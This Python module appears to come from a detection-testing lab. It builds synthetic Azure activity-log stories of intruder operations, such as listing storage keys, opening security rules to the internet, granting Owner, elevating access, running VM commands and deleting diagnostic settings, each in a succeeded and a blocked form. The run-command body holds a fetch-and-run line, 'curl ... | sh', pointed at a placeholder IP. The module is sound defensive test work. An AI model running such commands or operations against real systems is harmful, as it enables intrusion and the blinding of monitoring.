"""Stories of an intruder: what detections look for, once carried out and once blocked by Azure.

A rule that looks at the request alone fires on both; only the outcome tells them apart.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from lab.activity_log import Stage
from lab.operation_stories import Story
from lab.records import Record, resource_id, token
from lab.request_bodies import OWNER, role_assignment, security_rule
from lab.story import Outcome, Storyteller


@dataclass(frozen=True, slots=True)
class Attack:
    """What the intruder asks Azure for."""

    story: str
    operation: str
    body: Callable[[Storyteller], Record | None]
    resource: Callable[[Storyteller], str] | None = None
    """The resource it aims at, where the operation does not name its type."""


def _nothing(_: Storyteller) -> None:
    return None


def _open_to_the_world(tell: Storyteller) -> Record:
    source = tell.rng.choice(("*", "0.0.0.0/0", "Internet"))
    return {"properties": security_rule(source, tell.rng.choice(("22", "3389", "*")))}


def _owner(tell: Storyteller) -> Record:
    return role_assignment(OWNER, tell.rng)


def _command(tell: Storyteller) -> Record:
    script = f"curl -s https://198.51.100.7/{token(tell.rng, 8)} | sh"
    return {"commandId": "RunShellScript", "script": [script]}


def _setting_of_the_subscription(tell: Storyteller) -> str:
    setting = f"mdr-{token(tell.rng, 6)}"
    return (
        f"/subscriptions/{tell.subscription().id}/providers/microsoft.insights/diagnosticSettings/{setting}"
    )


def _setting_of_a_vault(tell: Storyteller) -> str:
    vault = resource_id(tell.subscription(), "Microsoft.KeyVault/vaults", tell.rng)
    return f"{vault}/providers/microsoft.insights/diagnosticSettings/mdr"


def _storage_account(tell: Storyteller) -> str:
    return resource_id(tell.subscription(), "Microsoft.Storage/storageAccounts", tell.rng)


def _machine(tell: Storyteller) -> str:
    return resource_id(tell.subscription(), "Microsoft.Compute/virtualMachines", tell.rng)


def _tenant(_: Storyteller) -> str:
    return "/providers/Microsoft.Authorization"


ATTACKS: Final = (
    Attack("list_keys", "Microsoft.Storage/storageAccounts/listKeys/action", _nothing, _storage_account),
    Attack(
        "open_to_the_world", "Microsoft.Network/networkSecurityGroups/securityRules/write", _open_to_the_world
    ),
    Attack("grant_owner", "Microsoft.Authorization/roleAssignments/write", _owner),
    Attack("elevate_access", "Microsoft.Authorization/elevateAccess/action", _nothing, _tenant),
    Attack("run_command", "Microsoft.Compute/virtualMachines/runCommand/action", _command, _machine),
    Attack(
        "blind_subscription",
        "microsoft.insights/diagnosticSettings/delete",
        _nothing,
        _setting_of_the_subscription,
    ),
    Attack("blind_resource", "microsoft.insights/diagnosticSettings/delete", _nothing, _setting_of_a_vault),
)


def carried_out(attack: Attack) -> Story:
    """The attack as a story in which Azure does what was asked."""

    def tell_it(tell: Storyteller) -> None:
        request = tell.request(attack.operation, attack.body(tell), resource=_aim(tell, attack))
        tell.stage(request, Stage.START, 0)
        tell.stage(request, Stage.SUCCESS, 1.4, "OK")
        tell.expect(request, Outcome.SUCCESS, records=2)

    return tell_it


def blocked(attack: Attack) -> Story:
    """The attack as a story in which Azure refuses, by role or by policy."""

    def tell_it(tell: Storyteller) -> None:
        request = tell.request(attack.operation, attack.body(tell), resource=_aim(tell, attack))
        tell.stage(request, Stage.START, 0)
        tell.stage(request, Stage.FAILURE, 0.4, tell.rng.choice(("Forbidden", "PolicyForbidden")))
        tell.expect(request, Outcome.FAILURE, records=2)

    return tell_it


HOSTILE_STORIES: Final[dict[str, tuple[Story, int]]] = {
    **{f"{attack.story}_carried_out": (carried_out(attack), 1) for attack in ATTACKS},
    **{f"{attack.story}_blocked": (blocked(attack), 1) for attack in ATTACKS},
}
"""Stories by name, with how often a customer has each in a scenario of size 1."""


def _aim(tell: Storyteller, attack: Attack) -> str | None:
    return attack.resource(tell) if attack.resource else None
